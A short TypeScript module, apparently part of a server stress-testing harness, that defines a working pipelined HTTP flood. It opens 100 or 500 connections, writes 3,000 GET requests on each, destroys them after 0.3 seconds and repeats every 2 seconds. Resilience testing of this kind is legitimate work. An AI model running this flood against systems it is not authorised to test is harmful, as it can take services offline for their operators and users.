/** Thousands of requests on each of many connections, which are closed before anything can be answered. */
import type { Attack } from './attack.ts'
import { openSocket, pause } from './sockets.ts'

/** @param connections that attack at once; each sends 3,000 requests and is closed after 0.3 seconds */
const pipelined = (connections: number): Attack => ({
  name: `pipelined-${connections}`,
  about: `${connections} connections × 3,000 GETs, closed after 0.3 s, again each 2 s`,
  async run(target, signal) {
    const request = `GET ${target.paths.static} HTTP/1.1\r\nHost: x\r\n\r\n`
    const requests = Buffer.from(request.repeat(3000))
    while (!signal.aborted) {
      const sockets = Array.from({ length: connections }, () => openSocket(target))
      for (const socket of sockets) socket.write(requests)
      await pause(300, signal)
      for (const socket of sockets) socket.destroy()
      await pause(2000, signal)
    }
  },
})

/** As many as a small script opens. */
export const pipelined100 = pipelined(100)

/** As many as a process may open without asking. */
export const pipelined500 = pipelined(500)
